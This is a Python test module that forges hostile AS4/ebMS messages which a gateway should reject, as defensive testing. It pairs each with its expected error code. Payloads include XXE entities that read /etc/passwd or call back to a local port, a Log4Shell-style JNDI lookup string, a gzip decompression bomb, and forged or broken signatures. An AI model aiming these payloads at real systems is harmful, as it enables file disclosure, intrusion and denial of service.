"""The messages that must be refused, each with a payload that can be recognised wherever it turns up [threats 1.0].

An `Attack` is made anew for each run: its canary is unique, so that what one attack left
behind is not taken for another's.
"""

import dataclasses
import functools
import gzip
import os
import re
import zlib
from collections.abc import Callable

from gateway.as4 import ns
from gateway.as4.units import PartyId, Property
from tests.peer import Authority, Keys, Peer
from tests.security.forge import Packed, Part, forge

#: More than what stays in memory, so that it is spooled to disk and its chunks go into an open transaction.
LARGE = 2_500_000
HOSTILE = "\u009b31m\u202etxt.exe%s{}${jndi:ldap://127.0.0.1/x}"


@dataclasses.dataclass
class Shot:
    """One attack, ready to be sent."""

    content_type: str
    body: bytes
    canary: bytes
    #: Octets that only the payload as it was signed (compressed) has.
    packed: bytes = b""


Made = Callable[["Maker"], tuple[str, bytes]]


@dataclasses.dataclass(frozen=True)
class Attack:
    """What is sent, and what the partner is told: an ebMS code, or a SOAP fault."""

    id: str
    make: Made
    code: str
    status: int = 200
    signed: bool = True


class Maker:
    """What the attacks are made of."""

    def __init__(self, peer: Peer, stranger: Keys, witness: int) -> None:
        self.peer, self.stranger, self.witness = peer, stranger, witness
        self.canary = b"CANARY-" + os.urandom(12).hex().encode()
        self.packed = b""

    def payload(self, size: int = 600) -> bytes:
        """Begins and ends with the canary; the middle does not compress."""
        return self.canary + b" " + os.urandom(size).hex().encode() + b" " + self.canary

    def gzip(self, octets: bytes) -> bytes:
        made = gzip.compress(octets, 1, mtime=0)
        self.packed = made[len(made) // 2 :][:40]
        return made

    def sent(self, size: int = 600, **more):
        """A message that is right, for attacks on its way."""
        return self.peer.message([("application/xml", self.payload(size))], wire_octets=self._remember, **more)

    def _remember(self, octets: bytes) -> bytes:
        self.packed = octets[len(octets) // 2 :][:40]
        return octets

    def on_the_way(self, size: int = 600, **more) -> Packed:
        sent = self.sent(size, **more)
        return Packed.of(sent.content_type, sent.body)

    def shot(self, made: tuple[str, bytes]) -> Shot:
        return Shot(*made[:2], self.canary, self.packed)


def _envelope(pattern: str, replacement: str | bytes | Callable, size: int = 600) -> Made:
    """A right message whose envelope was changed on the way."""
    def make(maker: Maker):
        packed = maker.on_the_way(size)
        put = replacement.encode() if isinstance(replacement, str) else replacement
        return packed.with_envelope(re.sub(pattern.encode(), put, packed.envelope, count=1, flags=re.S)).out
    return make


def _flip(at: int) -> Callable[[bytes], bytes]:
    def flip(octets: bytes) -> bytes:
        spoilt = bytearray(octets)
        spoilt[at] ^= 1
        return bytes(spoilt)
    return flip


def _gzipped(spoil: Callable[[bytes], bytes], size: int = 600) -> Made:
    """Signed, encrypted, and no gzip that anybody can read."""
    def make(maker: Maker):
        return forge(maker.peer, [Part(spoil(maker.gzip(maker.payload(size))), gzip=True)])[:2]
    return make


def _bomb(maker: Maker):
    return forge(maker.peer, [Part(maker.gzip(maker.canary + bytes(64 << 20) + maker.canary), gzip=True)])[:2]


def _doctype(text: str) -> Made:
    def make(maker: Maker):
        packed = maker.on_the_way()
        doctype = text.replace("PORT", str(maker.witness)).replace("CANARY", maker.canary.decode())
        return packed.with_envelope(doctype.encode() + packed.envelope.replace(b">C1<", b">&e;<")).out
    return make


def _twice(maker: Maker):
    packed = maker.on_the_way()
    return packed.with_parts([*packed.parts, packed.parts[1]]).out


def _extra(maker: Maker):
    packed = maker.on_the_way()
    head = packed.parts[1][0].replace(b"<p0", b"<extra")
    return packed.with_parts([*packed.parts, (head, maker.payload())]).out


def _missing(maker: Maker):
    packed = maker.on_the_way()
    return packed.with_parts(packed.parts[:1]).out


def _plain(maker: Maker):
    """Signed and not encrypted: the second of two."""
    parts = [Part(maker.payload()), Part(maker.payload(), encrypted="")]
    return forge(maker.peer, parts)[:2]


def _comment(maker: Maker):
    """A08: who reads up to the comment sees a partner; what is signed is somebody else."""
    return forge(maker.peer, [Part(maker.payload())], from_party=PartyId(
        maker.peer.party.value + "_EVIL", maker.peer.party.type),
        messaging=lambda text: text.replace("_EVIL<", "<!-- x -->_EVIL<"))[:2]


def _in_the_body(maker: Maker):
    sent = maker.peer.message([])
    return sent.content_type, sent.body.replace(b"></S12:Body>", b"><x>" + maker.payload() + b"</x></S12:Body>")


def _sent(maker: Maker, **header):
    sent = maker.sent(**header)
    return sent.content_type, sent.body


def _without_corner(maker: Maker):
    properties = tuple(p for p in maker.peer.header().properties if p.name != "finalRecipient")
    return _sent(maker, properties=properties)


def _wrong_signer(maker: Maker):
    return _sent(maker, key=maker.stranger.signing_key)


def _wrong_recipient(maker: Maker):
    return _sent(maker, recipient=maker.stranger.encryption)


def _wrong_digest(size: int) -> Made:
    return lambda maker: _sent(maker, size=size, digest=lambda *_: os.urandom(32))


def _long_id(maker: Maker):
    packed = maker.on_the_way()
    return packed.with_envelope(re.sub(
        rb"<eb:MessageId>[^<]*<", b"<eb:MessageId>" + b"x" * 900_000 + b"@long<", packed.envelope)).out


def _hostile(maker: Maker):
    """M02: what a terminal, a template or a format string would take for an order."""
    return _sent(maker, from_party=PartyId(maker.peer.party.value + HOSTILE, maker.peer.party.type))


_SECURITY, _SIGNATURE = "<wsse:Security .*</wsse:Security>", "<ds:Signature .*</ds:Signature>"
_FAULT = b'<r:Sequence xmlns:r="http://docs.oasis-open.org/ws-rx/wsrm/200702" S12:mustUnderstand="true"/></S12:Header>'
_XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:PORT/CANARY">]>'

_ZSTD = (Property(ns.MIME_TYPE, "text/plain"), Property(ns.COMPRESSION_TYPE, "application/zstd"))

ATTACKS = [
    Attack("unsigned", _envelope(_SIGNATURE, ""), "EBMS:0103"),
    Attack("no security", _envelope(_SECURITY, ""), "EBMS:0103"),
    Attack("empty security", _envelope("(<wsse:Security [^>]*>).*(</wsse:Security>)", rb"\1\2"), "EBMS:0103"),
    Attack("sha-1 digest", _envelope("xmlenc#sha256", "xmldsig#sha1"), "EBMS:0103"),
    Attack("not encrypted", _plain, "EBMS:0103"),
    Attack("wrong signer", _wrong_signer, "EBMS:0101"),
    Attack("header changed", _envelope(">C1<", ">C9<"), "EBMS:0101"),
    Attack("signature value changed", _envelope("<ds:SignatureValue>....", "<ds:SignatureValue>AAAA"), "EBMS:0101"),
    Attack("wrong digest", _wrong_digest(600), "EBMS:0101"),
    Attack("wrong digest, large", _wrong_digest(LARGE // 2), "EBMS:0101"),
    Attack("flipped ciphertext", lambda m: m.on_the_way().with_part(1, _flip(100)).out, "EBMS:0102"),
    Attack("flipped tag, large", lambda m: m.on_the_way(LARGE // 2).with_part(1, _flip(-1)).out, "EBMS:0102"),
    Attack("flipped at the start, large", lambda m: m.on_the_way(LARGE // 2).with_part(1, _flip(40)).out, "EBMS:0102"),
    Attack("wrong recipient", _wrong_recipient, "EBMS:0102"),
    Attack("ciphertext too short", lambda m: m.on_the_way().with_part(1, lambda o: o[:27]).out, "EBMS:0102"),
    Attack("bomb", _bomb, "EBMS:0303"),
    Attack("gzip with a wrong check sum", _gzipped(lambda o: o[:-8] + bytes(4) + o[-4:]), "EBMS:0303"),
    Attack("gzip cut short, large", _gzipped(lambda o: o[:-20], LARGE // 2), "EBMS:0303"),
    Attack("deflate called gzip", _gzipped(lambda o: zlib.compress(o)), "EBMS:0303"),
    Attack("extra part", _extra, "EBMS:0007"),
    Attack("missing part", _missing, "EBMS:0007"),
    Attack("same Content-ID twice", _twice, "EBMS:0007"),
    Attack("no closing delimiter", lambda m: (lambda p: (p.content_type, p.body(closed=False)))(m.on_the_way()), "EBMS:0007"),
    Attack("body cut short", lambda m: (lambda t, b: (t, b[: len(b) * 2 // 3]))(*m.on_the_way(LARGE // 2).out), "EBMS:0007"),
    Attack("oversized part", lambda m: _sent(m, size=LARGE, compress=False), "EBMS:0007", status=413),
    Attack("doctype", _doctype("<!DOCTYPE x>"), "EBMS:0009", status=400),
    Attack("external entity", _doctype(_XXE), "EBMS:0009", status=400),
    Attack("external file", _doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), "EBMS:0009", status=400),
    Attack("parameter entity", _doctype(
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:PORT/CANARY">%p;]>'), "EBMS:0009", status=400),
    Attack("external subset", _doctype(
        '<!DOCTYPE x SYSTEM "http://127.0.0.1:PORT/CANARY"[<!ENTITY e "">]>'), "EBMS:0009", status=400),
    Attack("instruction in the header", _envelope("<eb:MessageId>", "<eb:MessageId><?x y?>"), "EBMS:0009", status=400),
    Attack("comment in a PartyId", _comment, "EBMS:0010"),
    Attack("unknown party", lambda m: _sent(m, from_party=PartyId("AP_FI_01", m.peer.party.type)), "EBMS:0010"),
    Attack("hostile party", _hostile, "EBMS:0010"),
    Attack("missing corner", _without_corner, "EBMS:0003"),
    Attack("payload in the body", _in_the_body, "EBMS:0003"),
    Attack("external payload", lambda m: forge(m.peer, [Part(m.payload(), href=f"http://127.0.0.1:{m.witness}/x")])[:2],
           "EBMS:0011"),
    Attack("long MessageId", _long_id, "EBMS:0009"),
    Attack("must understand", _envelope("</S12:Header>", _FAULT), "EBMS:0009", status=500, signed=False),
    Attack("compressed with something else", lambda m: forge(m.peer, [Part(
        m.payload(), properties=_ZSTD)])[:2], "EBMS:0003"),
]


def maker(peer: Peer, witness: int) -> Maker:
    return Maker(peer, _stranger(), witness)


@functools.cache
def _stranger() -> Keys:
    """Somebody of the partner's name, certified by somebody of its authority's name."""
    return Keys.make("LV", "rsa", Authority())
